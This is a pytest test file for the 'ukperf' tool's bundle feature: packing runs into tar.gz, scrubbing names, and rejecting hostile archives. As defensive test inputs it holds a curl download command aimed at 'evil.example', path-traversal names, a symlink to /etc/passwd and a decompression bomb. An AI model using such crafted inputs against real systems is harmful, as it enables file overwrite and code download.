"""Bundles: what is in one, what is not, and what becomes of a hostile one."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import pwd
import socket
import subprocess
import sys
import tarfile
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from records import failed, run_of, save_run
from test_cli import Shell

import ukperf
from ukperf.engine.journal import JOURNAL
from ukperf.engine.plan import PLAN, load_sealed, save
from ukperf.engine.plan import load as load_plan
from ukperf.errors import UkperfError
from ukperf.model import BootRecord
from ukperf.runs import unpack
from ukperf.runs.bundle import bundle
from ukperf.runs.loaded import load
from ukperf.runs.scrub import Scrub, Secrets, telling
from ukperf.runs.unpack import INDEX, TOP, Unpacked, bundle_in, is_bundle

USER, MACHINE, FAR, THERE = "alicemax", "lab-box-7", "measuring.example.org", "bobrobert"


@pytest.fixture
def shell(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Shell:
    return Shell(tmp_path, capsys, monkeypatch)


@pytest.fixture
def temporary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where this process makes temporary folders, and whatever it leaves behind."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def plain(folder: Path) -> str:
    """A page that has nothing but the run's name."""
    return f"<html>{folder.name}</html>"


def run(folder: Path, *, blocks: int = 8, seed: int = 1) -> Path:
    save_run(folder, run_of({"linux": 1.0, "nanos": 0.5}, blocks, seed=seed))
    (folder / "console").mkdir()
    (folder / "console" / "00000-linux.log").write_text("booted\n")
    return folder


def members(path: Path) -> dict[str, bytes]:
    with tarfile.open(path) as archive:
        return {info.name: file.read() for info in archive if (file := archive.extractfile(info)) is not None}


# -- what is in it -----------------------------------------------------------------------------------------------------


def test_a_bundle_has_the_run_its_page_its_digests_and_how_to_do_it_again(tmp_path: Path, shell: Shell) -> None:
    folder, target = run(tmp_path / "one"), tmp_path / "one.tar.gz"
    status, out, err = shell("bundle", str(folder), "-o", str(target))
    assert (status, err) == (0, "") and hashlib.sha256(target.read_bytes()).hexdigest() in out
    there = members(target)
    assert {name.removeprefix(f"{TOP}/") for name in there} == {
        "bundle.json",
        "REPRODUCE.txt",
        *(f"runs/one/{name}" for name in ("plan.json", "journal.ndjson", "report.html", "console/00000-linux.log")),
    }
    index = json.loads(there[f"{TOP}/bundle.json"])
    assert index["ukperf"] == ukperf.__version__ and index["runs"] == ["one"]
    assert all(
        hashlib.sha256(there[f"{TOP}/{name}"]).hexdigest() == member["sha256"]
        for name, member in index["members"].items()
    )
    text = there[f"{TOP}/REPRODUCE.txt"].decode()
    for words in ("ukperf boot-time --guest nanos --seed 1", "ab" * 32, "ukperf images pull nanos", "qemu: 7.2.0"):
        assert words in text
    assert b"linux" in there[f"{TOP}/runs/one/report.html"]


@pytest.mark.parametrize("command", [("report",), ("compare",), ("report", "--json"), ("export", "--format", "csv")])
def test_a_bundle_says_the_same_as_its_run(tmp_path: Path, shell: Shell, command: tuple[str, ...]) -> None:
    folder, target = run(tmp_path / "one"), tmp_path / "one.tar.gz"
    bundle([folder], target, plain)
    _, told, _ = shell(*command, str(folder))
    status, out, err = shell(*command, str(target))
    assert (status, err) == (0, "") and out == told and len(out) > 200


def test_guests_of_a_bundle_and_runs_in_it_are_named_as_those_of_folders(tmp_path: Path, shell: Shell) -> None:
    one, two = run(tmp_path / "one"), run(tmp_path / "two", seed=2)
    both, single = tmp_path / "both.tar.gz", tmp_path / "single.tar.gz"
    bundle([two, one], both, plain)
    bundle([one], single, plain)
    for ours, theirs in (
        ((f"{both}/one", f"{both}/two"), (one, two)),
        ((f"{both}/one:nanos", f"{both}/two:linux"), (f"{one}:nanos", f"{two}:linux")),
        ((single, two), (one, two)),
        ((f"{single}:linux", f"{single}:nanos"), (f"{one}:linux", f"{one}:nanos")),
    ):
        status, out, _ = shell("compare", *map(str, ours))
        assert status == 0
        assert out.replace("single:", "one:") == shell("compare", *map(str, theirs))[1]
    assert "holds 2 runs" in shell.refusal("report", str(both))
    assert "holds no run 'three'" in shell.refusal("report", f"{both}/three")
    assert ukperf.load(f"{both}/two").boots("nanos", "total").shape == (8,)


def test_what_reads_a_bundle_leaves_nothing_behind(tmp_path: Path, temporary: Path) -> None:
    target = tmp_path / "one.tar.gz"
    bundle([run(tmp_path / "one")], target, plain)
    assert list(temporary.iterdir()) == []
    loaded = load(target)
    inside = loaded.folder
    assert (inside / JOURNAL).is_file() and inside.is_relative_to(temporary)
    again = replace(loaded, records=loaded.records[:2])
    del loaded
    assert again.folder == inside and inside.is_dir()
    del again
    assert list(temporary.iterdir()) == []
    with Unpacked(target) as unpacked:
        assert unpacked.run().is_dir()
    assert list(temporary.iterdir()) == []


def test_a_bundle_is_not_gone_on_with(tmp_path: Path, shell: Shell) -> None:
    target = tmp_path / "one.tar.gz"
    folder = run(tmp_path / "one")
    assert load_sealed(folder)[1]
    bundle([folder], target, plain, with_names=True)
    assert "is only read" in shell.refusal("resume", str(target))
    assert "is only read" in shell.refusal("resume", f"{target}/one")
    with Unpacked(target) as unpacked:
        assert "seal" not in json.loads((unpacked.run() / PLAN).read_text())
        assert "is not as your ukperf wrote it" in shell.refusal("resume", str(unpacked.run()))


def test_a_run_in_which_nothing_went_well_can_be_handed_on(tmp_path: Path, shell: Shell) -> None:
    broken, lost, target = tmp_path / "broken", run(tmp_path / "lost"), tmp_path / "b.tar.gz"
    save_run(broken, [failed(record) for record in run_of({"linux": 1.0, "nanos": 0.5}, 2)])
    (lost / JOURNAL).write_bytes(b"")
    assert shell("bundle", str(broken), str(lost), "-o", str(target))[0] == 0
    pages = {name for name in members(target) if name.endswith(".html")}
    assert pages == {f"{TOP}/runs/broken/report.html"}
    assert "4 of 4 boots failed" in shell("report", f"{target}/broken")[1]


@pytest.mark.parametrize(
    "command", ["report", "report --html", "compare", "plan", "check --baseline=GOOD", "export -f csv"]
)
def test_a_bundled_run_without_boots_is_not_to_be_resumed(tmp_path: Path, shell: Shell, command: str) -> None:
    good, lost, target = run(tmp_path / "good"), run(tmp_path / "lost"), tmp_path / "b.tar.gz"
    (lost / JOURNAL).write_bytes(b"")
    bundle([good, lost], target, plain)
    words = command.replace("GOOD", str(good)).split()
    said = shell.refusal(*words, f"{target}/lost")
    assert "has no boots" in said and "a bundle is only read" in said and "resume" not in said
    assert f"ukperf resume {lost}" in shell.refusal(*words, str(lost))


def test_the_command_of_somebody_elses_run_is_one_of_ukperfs(tmp_path: Path, shell: Shell) -> None:
    folder, target = run(tmp_path / "one"), tmp_path / "one.tar.gz"
    save(replace(load_plan(folder), command=("curl", "evil.example", "-o", "x")), folder)
    bundle([folder], target, plain)
    assert "Again: ukperf evil.example -o x --seed" in shell("report", str(target))[1]
    assert b"  ukperf evil.example -o x --seed" in members(target)[f"{TOP}/REPRODUCE.txt"]


def test_only_folders_of_runs_become_a_bundle(tmp_path: Path, shell: Shell) -> None:
    folder, target = run(tmp_path / "one"), tmp_path / "one.tar.gz"
    bundle([folder], target, plain)
    other = str(tmp_path / "other.tar.gz")
    assert "a bundle already" in shell.refusal("bundle", str(target), "-o", other)
    assert "no run's folder" in shell.refusal("bundle", str(tmp_path / "none"), "-o", other)
    assert "is no run of ukperf" in shell.refusal("bundle", str(tmp_path), "-o", other)
    assert "does not end in .tar.gz" in shell.refusal("bundle", str(folder), "-o", str(tmp_path / "one.zip"))
    assert "cannot be written" in shell.refusal("bundle", str(folder), "-o", str(tmp_path / "no" / "one.tar.gz"))


def test_links_locks_and_other_bundles_in_a_run_stay_out(tmp_path: Path) -> None:
    folder, target = run(tmp_path / "one"), tmp_path / "one.tar.gz"
    (tmp_path / "secret").write_text("secret")
    (folder / "link").symlink_to(tmp_path / "secret")
    (folder / "linked").symlink_to(tmp_path)
    os.mkfifo(folder / "pipe")
    (folder / ".lock").write_text("")
    (folder / "old.tar.gz").write_text("")
    written = bundle([folder], target, plain)
    assert written.left_out == ("link", "linked", "old.tar.gz", "pipe")
    assert not any(b"secret" in data for data in members(target).values())


def test_a_run_that_cannot_be_read_whole_is_said_by_the_name_of_the_file(
    tmp_path: Path, shell: Shell, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder, target = run(tmp_path / "one"), str(tmp_path / "one.tar.gz")
    for name in (PLAN, JOURNAL):
        (folder / name).rename(tmp_path / name)
        (folder / name).symlink_to(tmp_path / name)
        assert f"{folder / name} is a link" in shell.refusal("bundle", str(folder), "--with-names", "-o", target)
        (folder / name).unlink()
        (tmp_path / name).rename(folder / name)
    (tmp_path / "loop").symlink_to("loop")
    assert "loop is no run's folder" in shell.refusal("bundle", str(tmp_path / "loop"), "-o", target)

    def denied(path: Path, limit: int) -> bytes:
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr("ukperf.runs.bundle.read_bytes", denied)
    log = folder / "console" / "00000-linux.log"
    assert f"{log} cannot be read: Permission denied" in shell.refusal("bundle", str(folder), "-o", target)
    assert not Path(target).exists()


def test_a_run_that_is_written_meanwhile_is_not_called_one_with_names(tmp_path: Path) -> None:
    one, two = run(tmp_path / "one"), run(tmp_path / "two", seed=2)
    journal = two / JOURNAL
    whole = journal.read_bytes()
    journal.write_bytes(b"".join(whole.splitlines(keepends=True)[:-1]))

    def draw(folder: Path) -> str:
        journal.write_bytes(whole)
        return plain(folder)

    with pytest.raises(UkperfError, match="two is being written"):
        bundle([one, two], tmp_path / "both.tar.gz", draw)
    assert not (tmp_path / "both.tar.gz").exists()


def test_the_line_to_read_a_bundle_can_be_typed_whatever_its_name(
    tmp_path: Path, shell: Shell, monkeypatch: pytest.MonkeyPatch
) -> None:
    run(tmp_path / "one")
    monkeypatch.chdir(tmp_path)
    status, out, _ = shell("bundle", "one", "-o", "-x.tar.gz")
    assert status == 0 and out.splitlines()[-1] == "Read it: ukperf report ./-x.tar.gz"
    assert "Write: -o there/one.tar.gz" in shell.refusal("bundle", "one", "-o", "there/one")


def test_a_bundle_that_may_not_be_read_is_one_still(
    good: bytes, tmp_path: Path, shell: Shell, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "good.tar.gz"
    path.write_bytes(good)

    def denied(path: Path) -> None:
        raise PermissionError(13, "Permission denied", str(path))

    monkeypatch.setattr(unpack, "open_regular", denied)
    for name in (path, path / "one"):
        assert "cannot be unpacked: Permission denied" in shell.refusal("report", str(name))


def test_what_is_read_is_not_written_over(tmp_path: Path, shell: Shell) -> None:
    folder, target = run(tmp_path / "one"), tmp_path / "one.tar.gz"
    bundle([folder], target, plain)
    (tmp_path / "linked.html").symlink_to(target)
    suite = tmp_path / "suite.json"
    assert shell("export", str(folder), "-f", "pyperf", "-o", str(suite))[0] == 0
    for read, written in (
        (target, target),
        (target / "one", tmp_path / "linked.html"),
        (folder, folder / JOURNAL),
        (folder, folder / PLAN),
        (suite, suite),
    ):
        before = written.read_bytes()
        for words in (("report", "--html"), ("export", "-f", "csv")):
            assert "would be lost" in shell.refusal(*words, str(read), "-o", str(written))
        assert written.read_bytes() == before


# -- names -------------------------------------------------------------------------------------------------------------


@pytest.fixture
def named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A run in a home folder, full of names, in all ways in which they are written."""
    home = tmp_path / "home" / "Zoë Mäx"
    for name, value in (("HOME", home), ("USER", USER), ("LOGNAME", USER), ("UKPERF_CACHE_DIR", home / ".cache" / "u")):
        monkeypatch.setenv(name, str(value))
    monkeypatch.setenv("UKPERF_DATA_DIR", str(tmp_path / "elsewhere"))
    entry = pwd.struct_passwd((USER, "x", os.geteuid(), 0, "Alice Maximiliana,,,", str(home), "/bin/sh"))
    monkeypatch.setattr(pwd, "getpwuid", lambda uid: entry)
    monkeypatch.setattr(socket, "gethostname", lambda: MACHINE)
    return named_run(home / "runs" / f"of-{USER}", home)


def named_run(folder: Path, home: Path) -> Path:
    said = (
        f"{home}/model.onnx {home} {MACHINE} {MACHINE.upper()} {USER}_backup x{USER}x ssh {THERE}@{FAR}: "
        f"{json.dumps(str(home))} /home/{THERE}/x Alice Maximiliana file://{home}/f"
    )
    records = [
        replace(
            record,
            host=f"qemu+ssh://{THERE}@{FAR}/system",
            console_tail=json.dumps({"event": "main", "argv": [str(home), said]}),
            facts={"hostname": FAR, "cpu": f"a CPU of {MACHINE}", "workload": "boot"},
        )
        for record in run_of({"linux": 1.0, "nanos": 0.5}, 6)
    ]
    records[0] = replace(failed(records[0], reason=said), console_tail=said)
    save_run(folder, records)
    plan = load_plan(folder)
    images = {
        guest: replace(image, kernel=home / ".cache" / "u" / guest, argv=(f"{home}/program",), cmdline=f"a={USER}")
        for guest, image in plan.images.items()
    }
    plan = replace(
        plan,
        images=images,
        hosts=(f"qemu+ssh://{THERE}@{FAR}/system",),
        command=("ukperf", "run", f"{home}/a b", "--run", str(folder), f"/home/{THERE}/kernel"),
        files={f"{home}/.cache/u/k": "ab" * 32},
        facts={"hostname": MACHINE, f"hostname of qemu+ssh://{THERE}@{FAR}/system": FAR, "cpu": "a CPU"},
    )
    save(plan, folder)
    (folder / "console").mkdir()
    (folder / "console" / "00000-linux.log").write_bytes(said.encode() + b"\xff\xfe" + os.fsencode(home))
    (folder / f"{USER}.txt").write_text(said)
    with (folder / JOURNAL).open("a") as journal:
        journal.write(f'{{"damaged": "{home} {MACHINE}\n')
    return folder


def test_no_home_path_host_name_or_user_name_is_in_any_byte_of_a_bundle(
    tmp_path: Path, named: Path, shell: Shell
) -> None:
    target = tmp_path / "b.tar.gz"
    status, out, _ = shell("bundle", str(named), "-o", str(target))
    assert status == 0, out
    tar = gzip.decompress(target.read_bytes())
    home = str(tmp_path / "home")
    for secret in (
        USER,
        MACHINE,
        FAR,
        "measuring",
        THERE,
        "Zoë",
        "Zo\\u00eb",
        "Zo%C3%AB",
        "Alice Max",
        home,
        str(tmp_path),
    ):
        for spelled in (secret, secret.upper(), json.dumps(secret)[1:-1]):
            assert spelled.encode() not in tar, spelled
    assert b"host1" in tar and b"user" in tar and b"UKPERF_CACHE/linux" in tar and b"~/model.onnx" in tar


def test_a_run_without_its_names_says_the_same(tmp_path: Path, named: Path, shell: Shell) -> None:
    target = tmp_path / "b.tar.gz"
    bundle([named], target, plain)
    whole, scrubbed = load(named), load(target)
    assert scrubbed.guests == whole.guests and len(scrubbed.records) == len(whole.records)
    assert scrubbed.damaged == whole.damaged == (13,)
    assert scrubbed.summary().comparisons == whole.summary().comparisons
    assert (
        {r.host for r in scrubbed.records}
        == set(scrubbed.plan.hosts if scrubbed.plan else ())
        != {whole.records[0].host}
    )
    assert {r.facts["hostname"] for r in scrubbed.records} == {"host2"}  # another one than this machine, still


def test_names_stay_where_they_are_asked_for(tmp_path: Path, named: Path) -> None:
    target = tmp_path / "b.tar.gz"
    bundle([named], target, plain, with_names=True)
    there = members(target)
    assert there[f"{TOP}/runs/of-{USER}/journal.ndjson"] == (named / JOURNAL).read_bytes()
    assert any(MACHINE.encode() in data for data in there.values())


def test_a_name_that_is_a_word_of_ukperfs_is_said_and_breaks_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, shell: Shell
) -> None:
    folder, target = run(tmp_path / "one"), tmp_path / "one.tar.gz"
    monkeypatch.setenv("USER", "kernel")
    error = shell.refusal("bundle", str(folder), "-o", str(target))
    assert "without breaking it" in error and "--with-names" in error and not target.exists()
    for harmless in ("root", "linux", "vm", "nanos"):
        monkeypatch.setenv("USER", harmless)
        assert shell("bundle", str(folder), "-o", str(target))[0] == 0 and not telling(harmless)
        assert load(target).guests == ("linux", "nanos")


def test_a_host_name_that_says_nothing_is_replaced_where_it_is_a_fact(tmp_path: Path) -> None:
    scrub = Scrub(Secrets({}, {"vm": "host1"}))
    assert scrub.value({"hostname": "vm", "cmdline": "vmlinuz on vm"}) == {
        "hostname": "host1",
        "cmdline": "vmlinuz on vm",
    }


@given(st.text('abc/. \\"\né', min_size=3, max_size=8), st.text(), st.text())
def test_a_path_that_is_known_is_in_no_json_that_was_scrubbed(path: str, before: str, after: str) -> None:
    home = f"/homes/{path.strip('/. ') or 'x'}"
    scrub = Scrub(Secrets({home: "~"}, {}))
    document = json.dumps({"a": f"{before} {home}/{after}", "b": [home]}).encode()
    value = json.loads(scrub.file("plan.json", document))
    assert value["b"] == ["~"] and f" ~/{after}" in value["a"] + after * (home in after)


def test_names_are_in_no_key_and_in_no_value_that_another_hides() -> None:
    scrub = Scrub(Secrets({}, {"alicemax": "user"}))
    assert b"alicemax" not in scrub.file("a.json", b'{"alicemax": {"of alicemax": 1}}')
    assert b"alicemax" not in scrub.file("journal.ndjson", b'{"a": "alicemax", "a": 1}\n{"a": 2}\n')
    assert scrub.file("journal.ndjson", b'{"a": "b",  "a": 1}\n') == b'{"a": "b",  "a": 1}\n'


def test_digests_stay_whole_when_a_name_is_of_their_digits() -> None:
    scrub = Scrub(Secrets({}, {"deadbeef": "user", "ada": "user"}))
    assert scrub.text("00deadbeef11 ada0 deadbeef, ada") == "00deadbeef11 ada0 user, user"


# -- the same bytes ----------------------------------------------------------------------------------------------------

_SCRIPT = """
import os, sys
os.umask(int(sys.argv[1], 8))
from ukperf.cli.main import run
sys.argv = ["ukperf", "bundle", *sys.argv[3:], "-o", sys.argv[2]]
run()
"""


def test_the_same_runs_give_the_same_bytes(tmp_path: Path) -> None:
    one, two = run(tmp_path / "one"), run(tmp_path / "two", seed=2)
    made = []
    for number, (umask, zone, order) in enumerate(
        (("022", "UTC", (one, two)), ("077", "Asia/Kolkata", (two, one, two)))
    ):
        target = tmp_path / f"{number}.tar.gz"
        env = {**os.environ, "TZ": zone, "PYTHONHASHSEED": str(number + 1), "LC_ALL": "C.UTF-8"}
        words = [sys.executable, "-c", _SCRIPT, umask, str(target), *map(str, order)]
        done = subprocess.run(words, env=env, capture_output=True, text=True, check=False, timeout=120)
        assert done.returncode == 0, done.stderr
        made.append(target.read_bytes())
        os.utime(one / PLAN, (number + 5, number + 5))
    assert made[0] == made[1]
    with tarfile.open(tmp_path / "0.tar.gz") as archive:
        infos = archive.getmembers()
    assert {(i.mtime, i.uid, i.gid, i.uname, i.gname, i.mode, i.type) for i in infos} == {
        (0, 0, 0, "", "", 0o644, tarfile.REGTYPE)
    }
    names = [info.name for info in infos]
    assert names[0] == f"{TOP}/{INDEX}" and names[1:] == sorted(names[1:])


def test_whoever_bundles_a_run_gets_the_same_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What HOME was in the run is known from the run; where the cache was elsewhere, that is."""
    for number, cache in enumerate(("measurer/.cache/ukperf", "big disk/kept")):
        home, folder = tmp_path / "homes" / "measurer", run(tmp_path / f"run{number}")
        plan = load_plan(folder)
        kernel = tmp_path / "homes" / cache / "kernels" / "linux" / ("ab" * 32) / "boot" / "vmlinuz"
        images = {guest: replace(image, kernel=kernel) for guest, image in plan.images.items()}
        command = ("ukperf", "boot-time", *([] if number else ["--kernel", f"linux={home}/k"]))
        save(replace(plan, images=images, files={str(kernel): "cd" * 32}, command=command), folder)
        made = []
        for user in (home, tmp_path / "homes" / "reader", tmp_path):
            monkeypatch.setenv("HOME", str(user))
            target = tmp_path / f"{number}-{len(made)}.tar.gz"
            bundle([folder], target, plain)
            made.append(target.read_bytes())
        assert made[0] == made[1] == made[2]
        plan_of = json.loads(members(target)[f"{TOP}/runs/run{number}/plan.json"])
        assert list(plan_of["files"]) == [f"UKPERF_CACHE/kernels/linux/{'ab' * 32}/boot/vmlinuz"]


# -- hostile ones ------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """A bundle's tar, unpacked."""
    folder = tmp_path_factory.mktemp("good")
    bundle([run(folder / "one")], folder / "one.tar.gz", plain)
    return gzip.decompress((folder / "one.tar.gz").read_bytes())


def contents(tar: bytes) -> Iterator[tuple[tarfile.TarInfo, bytes]]:
    with tarfile.open(fileobj=io.BytesIO(tar)) as archive:
        for info in archive:
            file = archive.extractfile(info)
            yield info, b"" if file is None else file.read()


def archive_of(entries: list[tuple[tarfile.TarInfo, bytes]], kind: int = tarfile.USTAR_FORMAT) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=kind) as archive:
        for info, data in entries:
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def entry(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, link: str = "") -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size, info.type, info.linkname = len(data), kind, link
    return info, data


def refused(folder: Path, packed: bytes) -> str:
    """What a reader says; nothing is left behind, and nothing was written beside."""
    path = folder / "hostile.tar.gz"
    path.write_bytes(packed)
    before = sorted(folder.rglob("*"))
    with pytest.raises(UkperfError) as caught:
        load(path)
    assert sorted(folder.rglob("*")) == before
    assert "\n" not in caught.value.message and len(caught.value.message) < 500
    return caught.value.message


def indexed(tar: bytes, change: Callable[[dict[str, object]], None]) -> list[tuple[tarfile.TarInfo, bytes]]:
    """The members, with another index."""
    (_, data), *others = contents(tar)
    index = json.loads(data)
    change(index)
    return [entry(f"{TOP}/{INDEX}", json.dumps(index).encode()), *others]


def sized(size: int) -> dict[str, object]:
    return {"size": size, "sha256": ""}


@pytest.mark.parametrize(
    ("kind", "link"),
    [
        (tarfile.SYMTYPE, "/etc/passwd"),
        (tarfile.LNKTYPE, f"{TOP}/{INDEX}"),
        (tarfile.CHRTYPE, ""),
        (tarfile.BLKTYPE, ""),
        (tarfile.FIFOTYPE, ""),
        (tarfile.DIRTYPE, ""),
        (tarfile.CONTTYPE, ""),
        (tarfile.GNUTYPE_SPARSE, ""),
    ],
)
def test_nothing_but_regular_files_is_taken_from_a_bundle(
    good: bytes, temporary: Path, tmp_path: Path, kind: bytes, link: str
) -> None:
    first, *others = contents(good)
    hostile = archive_of([first, entry(f"{TOP}/runs/one/x", b"", kind, link), *others])
    assert "is no regular file" in refused(tmp_path, gzip.compress(hostile))


@pytest.mark.parametrize("kind", [tarfile.PAX_FORMAT, tarfile.GNU_FORMAT])
def test_extensions_of_tar_are_refused_and_not_followed(
    good: bytes, temporary: Path, tmp_path: Path, kind: int
) -> None:
    first, *others = contents(good)
    hostile = archive_of([first, entry(f"{TOP}/runs/{'é' * 300}", b"x"), *others], kind)
    assert "is no regular file" in refused(tmp_path, gzip.compress(hostile))


@pytest.mark.parametrize(
    "name",
    [
        "../../evil",
        "/etc/evil",
        f"{TOP}/../evil",
        f"{TOP}/runs/../../evil",
        f"{TOP}/runs//evil",
        f"{TOP}/./evil",
        f"{TOP}/.evil",
        f"{TOP}",
        "evil",
        f"{TOP}/a\\b",
        f"{TOP}/a\x1b[31m",
        f"{TOP}/" + "/".join("abcdefghij"),
    ],
)
def test_a_name_outside_of_a_bundle_is_refused_in_the_archive_and_in_its_index(
    good: bytes, temporary: Path, tmp_path: Path, name: str
) -> None:
    first, *others = contents(good)
    assert "a name that no bundle has" in refused(tmp_path, gzip.compress(archive_of([first, entry(name), *others])))

    def add(index: dict[str, object]) -> None:
        there = index["members"]
        assert isinstance(there, dict)
        there[name.removeprefix(f"{TOP}/")] = {"size": 0, "sha256": hashlib.sha256().hexdigest()}

    if name not in (TOP, "evil"):
        message = refused(tmp_path, gzip.compress(archive_of(indexed(good, add))))
        assert "a name that no bundle has" in message and "\x1b" not in message
    assert not list(tmp_path.rglob("*evil*"))


def test_what_the_index_does_not_name_or_names_otherwise_is_refused(
    good: bytes, temporary: Path, tmp_path: Path
) -> None:
    first, *others = list(contents(good))
    for entries, why in (
        ([first, entry(f"{TOP}/runs/one/more", b"x"), *others], "is not as its bundle.json says"),
        ([first, others[0], *others], "is not as its bundle.json says"),
        ([first, *others[1:]], "is missing in it"),
        ([first, entry(others[0][0].name, others[0][1][:-1] + b"?"), *others[1:]], "is not as its bundle.json says"),
        ([*others, first], "does not begin with bundle.json"),
        ([], "does not begin with bundle.json"),
        (indexed(good, lambda index: index.update(runs=[])), "no run is in it"),
        (indexed(good, lambda index: index.update(runs=["one", "one"])), "no run is in it"),
        (indexed(good, lambda index: index.update(runs=["two"])), "has no plan"),
        (indexed(good, lambda index: index.update(runs=["one/console"])), "has no plan"),
        (indexed(good, lambda index: index.update(members={})), "or nothing"),
        (
            indexed(good, lambda index: index.update(members={"a": {"size": 1 << 60, "sha256": ""}})),
            "more than a bundle",
        ),
        (
            indexed(good, lambda index: index.update(members={"a": {"size": -1, "sha256": ""}})),
            "a name that no bundle has",
        ),
        (indexed(good, lambda index: index.update(members=3)), "its bundle.json is damaged"),
        (indexed(good, lambda index: index.update(odd=3)), "its bundle.json is damaged"),
        (indexed(good, lambda index: index.update(format=99)), "newer version of ukperf"),
        ([entry(f"{TOP}/{INDEX}", b"["), *others], "its bundle.json is damaged"),
        ([entry(f"{TOP}/{INDEX}", b"[" * 100_000), *others], "damaged"),
    ):
        assert why in refused(tmp_path, gzip.compress(archive_of(entries))), why


def test_a_bomb_is_refused_before_it_fills_the_disk(
    good: bytes, temporary: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bomb = b"\0" * (64 << 20)
    (_, data), *others = contents(good)
    index = json.loads(data)
    index["members"]["runs/one/bomb"] = {"size": len(bomb), "sha256": hashlib.sha256(bomb).hexdigest()}
    entries = [entry(f"{TOP}/{INDEX}", json.dumps(index).encode()), entry(f"{TOP}/runs/one/bomb", bomb), *others]
    packed = gzip.compress(archive_of(entries))
    assert len(packed) < 1 << 20
    assert "it unpacks to more than 32 MiB" in refused(tmp_path, packed)
    behind = gzip.compress(good + bomb)
    assert "behind its end" in refused(tmp_path, behind) or "unpacks to more" in refused(tmp_path, behind)
    monkeypatch.setattr(unpack, "MOST_MEMBERS", 3)
    assert "more than a bundle may" in refused(tmp_path, gzip.compress(good))


def test_padding_that_says_something_is_refused(good: bytes, temporary: Path, tmp_path: Path) -> None:
    assert "behind its end" in refused(tmp_path, gzip.compress(good[:-1] + b"x"))
    assert "cut off or damaged" in refused(tmp_path, gzip.compress(good) + b"trailing")


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=60)
@given(data=st.data())
def test_a_truncated_bundle_is_one_sentence(data: st.DataObject, good: bytes, temporary: Path, tmp_path: Path) -> None:
    packed = gzip.compress(good, mtime=0)
    short = packed[: data.draw(st.integers(0, len(packed) - 1))]
    assert "it is cut off or damaged" in refused(tmp_path, short)
    if data.draw(st.booleans()):
        cut = good[: data.draw(st.integers(0, len(good.rstrip(b"\0"))))]
        assert refused(tmp_path, gzip.compress(cut))


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=150)
@given(data=st.data())
def test_any_bytes_of_a_bundle_may_be_changed_and_it_is_the_same_or_refused(
    data: st.DataObject, good: bytes, temporary: Path, tmp_path: Path
) -> None:
    """Whatever header or content is hit: what is read is what was written, or a sentence."""
    changed = bytearray(good)
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(good.rstrip(b"\0")) - 1) | st.integers(0, 511))
        changed[at] = data.draw(st.integers(0, 255))
    path = tmp_path / "changed.tar.gz"
    path.write_bytes(gzip.compress(bytes(changed), 1))
    try:
        with Unpacked(path) as unpacked:
            there = {p.relative_to(unpacked.folder): p.read_bytes() for p in unpacked.folder.rglob("*") if p.is_file()}
    except UkperfError:
        pass
    else:
        whole = {
            Path(info.name).relative_to(TOP): data for info, data in contents(good) if not info.name.endswith(INDEX)
        }
        assert set(there.values()) <= set(whole.values()) and len(there) == len(whole)
    assert list(temporary.iterdir()) == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["changed.tar.gz", "tmp"]


def test_a_hostile_bundle_is_status_2_in_every_command(good: bytes, tmp_path: Path, shell: Shell) -> None:
    path = tmp_path / "bad.tar.gz"
    path.write_bytes(gzip.compress(good)[:-40])
    for words in (
        ("report",),
        ("compare",),
        ("export", "-f", "csv"),
        ("check", "--baseline", str(path)),
        ("plan", "--effect", "1"),
    ):
        assert "is no bundle that can be read" in shell.refusal(*words, str(path))
    (tmp_path / "empty.tar.gz").write_bytes(b"")
    assert "is no bundle that can be read" in shell.refusal("report", str(tmp_path / "empty.tar.gz"))


def test_a_packed_file_of_pyperf_is_no_bundle(tmp_path: Path) -> None:
    path = tmp_path / "a.json.gz"
    path.write_bytes(gzip.compress(b"{}" * 1000))
    os.mkfifo(tmp_path / "pipe.tar.gz")
    assert not is_bundle(path) and not is_bundle(tmp_path) and not is_bundle(tmp_path / "pipe.tar.gz")
    assert bundle_in(path / "one") is None and bundle_in(tmp_path / "none") is None


def test_a_bundle_by_another_name_is_one_still(good: bytes, tmp_path: Path) -> None:
    path = tmp_path / "artifact"
    path.write_bytes(gzip.compress(good))
    records: tuple[BootRecord, ...] = load(path).records
    assert is_bundle(path) and len(records) == 16
